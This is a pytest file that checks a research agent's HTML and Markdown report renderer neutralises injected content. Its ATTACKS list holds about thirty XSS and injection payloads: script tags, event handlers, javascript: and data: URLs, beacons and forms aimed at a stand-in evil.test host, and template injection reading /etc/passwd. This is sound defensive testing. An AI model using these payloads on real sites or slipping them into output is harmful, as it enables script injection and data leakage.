"""Every text of a report is one that attacks; nothing of it may come to life."""

import re
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, get_args

import pytest
from markdown_it import MarkdownIt

from agent.domain.evidence import Considered, Failure, Publication, Source
from agent.domain.question import SOURCE_KINDS, STYLES, Brief, Question, SubQuestion
from agent.domain.report import (
    Citation,
    Claim,
    Disagreement,
    Dropped,
    Judge,
    Report,
    Run,
    Section,
    Side,
    Status,
    SummarySentence,
    Usage,
    Verdict,
)
from agent.rendering import render

EVIL = "https://evil.test"
ATTACKS = (
    f"![pixel]({EVIL}/p.png?d=1)",
    f"[![pixel]({EVIL}/p.png)]({EVIL})",
    f"![a][b]\n\n[b]: {EVIL}/p.png",
    f"![a](<{EVIL}/p q.png>)",
    "[press](javascript:alert(1))",
    "[press](java&Tab;script&colon;alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style></title></textarea><script>alert(1)</script>",
    "</q></span></p></svg><img src=x onerror=alert(1)>",
    "</title></svg><svg onload=alert(1)>",
    "]]><svg><script>alert(1)</script></svg>",
    f"<img srcset='{EVIL}/p.png 1x'><video poster={EVIL}/v.png>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css'</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    f"<form action={EVIL}><input autofocus onfocus=alert(1)></form>",
    f'<p style="background:url({EVIL}/p.png)">x</p><body background={EVIL}/p.png>',
    "<details open ontoggle=alert(1)><a href='vbscript:alert(1)'>x</a></details>",
    '" autofocus onfocus="alert(1)" x="',
    "' style='animation-name:x' onanimationstart='alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "{{ ''.__class__ }} {% include '/etc/passwd' %} {{constructor.constructor('alert(1)')()}}",
    "`<script>alert(1)</script>` ``` <script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\u2028<script>alert(1)</script>\u0000<scr\u0000ipt>alert(1)</script>",
    "[^1]: <img src=x onerror=alert(1)>\n\n| a |\n|---|\n| <script>alert(1)</script> |",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//evil.test/p.png {EVIL}/p.png",
)  # fmt: skip

OURS = frozenset(
    (*SOURCE_KINDS, *STYLES, *get_args(Status), *get_args(Verdict), *get_args(Judge), "number")
)
"""Words that only we write: they name kinds and never come from outside."""

SAFE = re.compile(r"#|documents/[0-9a-f]{64}\.txt$|https?://|file:///")


@pytest.fixture(scope="module")
def tame() -> Report:
    at = datetime(2026, 11, 22, tzinfo=UTC)
    citation = Citation("s", "s", "s", 0, 5)
    claim = Claim("s", "s", "repaired", (citation,), 0.9, "model")
    paper = Publication("s", "s", "s", "s", 3, retracted=True, licence="s")
    source = Source("s", "web", "s", "s", "s", at, ((0, 9),), ("s",), date(2024, 1, 2), "s", "s",
                    paper, (), "other", 2, "s", "s")  # fmt: skip
    other = replace(source, id="unread", published=None)
    usage = Usage(1, 2, 3, Decimal("0.1"))
    return Report(
        run=Run("s", Question("s"), at, at, "partial", "s"),
        brief=Brief("s", "en", (SubQuestion("s", "s"), SubQuestion("t", "s")), ("s",), ("s",)),
        sections=(Section("s", ("s",), (claim,)), Section("s", ("t",), (claim,) * 5)),
        dropped=(Dropped("s", "s", ("s",)),),
        gaps=("s",),
        sources=(source, other),
        failures=(Failure("s", "s"),),
        usage=Usage(1, 2, 3, Decimal("0.1"), {"s": usage, "write": usage}, {"s": usage}, ("s",)),
        seconds_by_stage={"s": 1.0, "refine": 2.0},
        considered=(Considered("s", "s", True, "s", "s", ("s",)),),  # as read
        summary=(SummarySentence("s", ("s",)),),
        disagreements=(Disagreement("s", "number", (Side("s", "s"),), "s", "s"),),
    )


def poisoned(value: Any, attack: str) -> Any:
    """Put one text in the place of every text of a value that came from outside."""
    if isinstance(value, str):
        return value if value in OURS else attack
    if isinstance(value, tuple):
        return tuple(poisoned(part, attack) for part in value)
    if isinstance(value, Mapping):
        return {poisoned(key, attack): poisoned(part, attack) for key, part in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{it.name: poisoned(getattr(value, it.name), attack) for it in fields(value)}
        )
    return value


def addressed(report: Report, attack: str) -> Report:
    """Put an attack behind an address that may be a link."""
    url = f"https://ok.example/{attack}"
    sources = (replace(source, url=url, read_url=url) for source in report.sources)
    return replace(report, sources=tuple(sources))


def test_every_attack_is_dead_in_the_page(opened: Any, tame: Report, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    _write(page, addressed(poisoned(tame, "harmless"), "harmless"))
    seen = opened(page)
    kinds = _elements(seen)
    for attack in ATTACKS:
        _write(page, addressed(poisoned(tame, attack), attack))
        seen.page.reload()
        assert seen.tried_nothing(), (attack, seen)
        assert _elements(seen) == kinds, attack


def test_every_attack_is_dead_in_markdown_even_where_html_is_live(
    opened: Any, tame: Report, tmp_path: Path
) -> None:
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    page = tmp_path / "markdown.html"
    page.touch()
    seen = opened(page)
    for attack in ATTACKS:
        report = addressed(poisoned(tame, f"telling {attack} words"), attack)
        shown = reader.render(render(report, ["md"])["report.md"])
        page.write_text(f"<meta charset=utf-8>{shown}", encoding="utf-8")
        seen.page.reload()
        assert seen.tried_nothing(), (attack, seen)
        assert seen.page.locator("script, img, iframe, svg, style, form, code, pre").count() == 0
        assert all(map(SAFE.match, _hrefs(seen))), attack


def _write(page: Path, report: Report) -> None:
    page.write_text(render(report, ["html"])["report.html"], encoding="utf-8")


def _hrefs(seen: Any) -> list[str]:
    hrefs: list[str] = seen.page.eval_on_selector_all(
        "[href]", "all => all.map(it => it.getAttribute('href'))"
    )
    return hrefs


def _elements(seen: Any) -> list[str]:
    """Return which elements stand in a page and with which attributes; the links must be safe."""
    assert all(map(SAFE.match, _hrefs(seen)))
    found: list[str] = seen.page.evaluate(
        """[...new Set([...document.querySelectorAll("*")].map(
            it => it.localName + " " + it.getAttributeNames().sort()))].sort()"""
    )
    return found
